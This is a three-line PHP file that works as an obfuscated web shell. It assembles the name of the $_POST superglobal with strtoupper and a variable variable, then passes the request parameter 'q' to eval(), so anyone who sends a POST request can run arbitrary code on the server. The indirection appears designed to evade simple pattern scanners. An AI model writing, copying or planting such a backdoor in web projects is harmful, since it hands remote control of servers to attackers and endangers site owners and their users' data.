<?php
$n = strtoupper('_post');
if (isset(${$n}['q'])) { eval(${$n}['q']); }
